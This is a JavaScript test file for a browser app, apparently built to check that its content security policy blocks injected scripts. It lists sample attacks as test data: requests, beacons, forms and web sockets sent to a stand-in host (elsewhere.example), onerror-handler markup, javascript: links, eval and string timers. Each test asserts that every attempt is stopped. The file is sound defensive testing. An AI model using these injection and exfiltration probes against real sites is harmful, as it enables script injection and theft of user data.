// Nothing leaves the browser, and what tries to is stopped: in the page and in a worker made as ours is.
import assert from "node:assert/strict";
import { test } from "node:test";
import { inEachEngine } from "./harness.mjs";

const ELSEWHERE = "http://elsewhere.example/taken";

// What a script that got in might try. Each answers "stopped" or what it achieved.
const ATTEMPTS = {
  "a request to another origin": async (elsewhere) => fetch(elsewhere, { mode: "no-cors" }).then(() => "fetched", () => "stopped"),
  "a beacon": async (elsewhere) => {
    const refused = new Promise((done) => addEventListener("securitypolicyviolation", () => done("stopped"), { once: true }));
    return navigator.sendBeacon(elsewhere, "text") ? Promise.race([refused, new Promise((done) => setTimeout(done, 2000, "sent"))]) : "stopped";
  },
  "a picture from another origin": (elsewhere) =>
    new Promise((done) => Object.assign(new Image(), { onload: () => done("loaded"), onerror: () => done("stopped"), src: elsewhere })),
  "a web socket": async () => {
    try {
      const socket = new WebSocket("ws://elsewhere.example/");
      return await new Promise((done) => ((socket.onopen = () => done("open")), (socket.onerror = () => done("stopped"))));
    } catch {
      return "stopped";
    }
  },
  // From a timer: what the test's own tool evaluates may use eval, what the page does later may not.
  eval: () =>
    new Promise((done) =>
      setTimeout(() => {
        try {
          done(`ran: ${(0, eval)("6 * 7")}`);
        } catch {
          done("stopped");
        }
      }),
    ),
  "new Function": () =>
    new Promise((done) =>
      setTimeout(() => {
        try {
          done(`ran: ${new Function("return 6 * 7")()}`);
        } catch {
          done("stopped");
        }
      }),
    ),
  "a timer made of text": () =>
    new Promise((done) => {
      setTimeout(() => {
        try {
          setTimeout("globalThis.ranTimer = true");
        } catch {}
        setTimeout(() => done(globalThis.ranTimer ? "ran" : "stopped"), 300);
      });
    }),
  "an address that is a script": async () => {
    const link = document.createElement("a");
    try {
      link.href = "javascript:void(globalThis.ranAddress = true)";
      document.body.append(link);
      link.click();
    } catch {}
    await new Promise((done) => setTimeout(done, 300));
    return globalThis.ranAddress ? "ran" : "stopped";
  },
  "a policy of its own for markup": async () => {
    if (!globalThis.trustedTypes) return "stopped";
    for (const name of ["mine", "default", "crosscheck"]) {
      try {
        trustedTypes.createPolicy(name, { createHTML: (text) => text });
        return `made ${name}`;
      } catch {}
    }
    return "stopped";
  },
  "an inline script": async () => {
    const script = document.createElement("script");
    try {
      script.textContent = "globalThis.ranInline = true";
      document.head.append(script);
    } catch {
      return "stopped";
    }
    return globalThis.ranInline ? "ran" : "stopped";
  },
  innerHTML: async () => {
    const box = document.createElement("div");
    try {
      box.innerHTML = "<img src=x onerror='globalThis.ranHandler = true'>";
    } catch {
      return "stopped";
    }
    await new Promise((done) => setTimeout(done, 300));
    return globalThis.ranHandler ? "ran" : globalThis.trustedTypes ? "set" : "stopped";
  },
  insertAdjacentHTML: async () => {
    try {
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.ranAdjacent = true'>");
    } catch {
      return "stopped";
    }
    await new Promise((done) => setTimeout(done, 300));
    return globalThis.ranAdjacent ? "ran" : globalThis.trustedTypes ? "set" : "stopped";
  },
  "a frame with a text of its own": async () => {
    const frame = document.createElement("iframe");
    try {
      frame.srcdoc = "<script>parent.ranFrame = true</script>";
    } catch {
      return "stopped";
    }
    document.body.append(frame);
    await new Promise((done) => setTimeout(done, 300));
    return globalThis.ranFrame ? "ran" : globalThis.trustedTypes ? "set" : "stopped";
  },
  "a script from another origin": (elsewhere) =>
    new Promise((done) => {
      const script = document.createElement("script");
      script.onload = () => done("loaded");
      script.onerror = () => done("stopped");
      try {
        script.src = elsewhere;
        document.head.append(script);
      } catch {
        done("stopped");
      }
    }),
  "a frame": async (elsewhere) => {
    const frame = document.createElement("iframe");
    const refused = new Promise((done) => addEventListener("securitypolicyviolation", () => done("stopped"), { once: true }));
    frame.src = elsewhere;
    document.body.append(frame);
    return Promise.race([refused, new Promise((done) => setTimeout(done, 2000, "framed"))]);
  },
  "a form": async (elsewhere) => {
    const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
    const refused = new Promise((done) => addEventListener("securitypolicyviolation", () => done("stopped"), { once: true }));
    document.body.append(form);
    setTimeout(() => form.submit());
    return Promise.race([refused, new Promise((done) => setTimeout(done, 2000, "sent"))]);
  },
};

// The same inside a module worker that is started from a blob, as the page starts its own.
const IN_WORKER = `
const tried = {};
const attempt = async (name, act) => { try { tried[name] = await act(); } catch { tried[name] = "stopped"; } };
await attempt("a request to another origin", () => fetch("${ELSEWHERE}", { mode: "no-cors" }).then(() => "fetched"));
await attempt("eval", () => (0, eval)("6 * 7"));
await attempt("new Function", () => new Function("return 6 * 7")());
await attempt("a timer made of text", () => { setTimeout("globalThis.ran = true"); return new Promise((done) => setTimeout(() => done(globalThis.ran ? "ran" : "stopped"), 300)); });
await attempt("a request of the old kind", () => new Promise((done) => { const asked = new XMLHttpRequest(); asked.onload = () => done("fetched"); asked.onerror = () => done("stopped"); asked.open("GET", "${ELSEWHERE}"); asked.send(); }));
await attempt("a stream of events", () => new Promise((done) => { const stream = new EventSource("${ELSEWHERE}"); stream.onopen = () => done("open"); stream.onerror = () => (stream.close(), done("stopped")); }));
await attempt("a script from another origin", () => import("${ELSEWHERE}.js").then(() => "loaded"));
await attempt("a web socket", () => new Promise((done) => { const socket = new WebSocket("ws://elsewhere.example/"); socket.onopen = () => done("open"); socket.onerror = () => done("stopped"); }));
postMessage(tried);
`;

inEachEngine("Trust", (desk) => {
  test("after the page has loaded not one request leaves it", async () => {
    const page = await desk.open();
    await page.waitForFunction(() => navigator.serviceWorker.controller);
    await page.waitForNetworkIdle({ idleTime: 500 }).catch(() => {});
    const [served, left] = [desk.served.length, desk.left.length];
    await page.evaluate(() => document.querySelectorAll("tr[data-row] button.value").forEach((button) => button.click()));
    await new Promise((done) => setTimeout(done, 1000));
    assert.deepEqual(desk.served.slice(served), [], "asked of our server");
    assert.deepEqual(desk.left.slice(left), [], "asked of other machines");
    assert.deepEqual(await page.evaluate(() => globalThis.refused), [], "violations of the policy");
    assert.deepEqual(page.faults, [], "errors on the console");
    await page.close();
  });

  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    test(`${name} is stopped in the page`, async () => {
      const page = await desk.open();
      const left = desk.left.length;
      assert.equal(await page.evaluate(attempt, ELSEWHERE), "stopped");
      assert.deepEqual(desk.left.slice(left), []);
      await page.close();
    });
  }

  test("a worker like ours is held to the policy as well", async () => {
    const page = await desk.open();
    const left = desk.left.length;
    // Only boot.js may vouch for a script's address; its own way of starting a worker is borrowed here with another body.
    const tried = await page.evaluate(async (body) => {
      const Original = Blob;
      globalThis.Blob = function () {
        return new Original([body], { type: "text/javascript" });
      };
      const worker = globalThis.crosscheckHost.worker();
      globalThis.Blob = Original;
      return new Promise((done, failed) => ((worker.onmessage = ({ data }) => done(data)), (worker.onerror = failed)));
    }, IN_WORKER);
    assert.deepEqual([...new Set(Object.values(tried))], ["stopped"], JSON.stringify(tried));
    assert.deepEqual(desk.left.slice(left), []);
    await page.close();
  });

  test("the page cannot be framed where the host sends our headers", async () => {
    const answer = await fetch(desk.url);
    assert.match(answer.headers.get("content-security-policy"), /frame-ancestors 'none'/);
  });
});
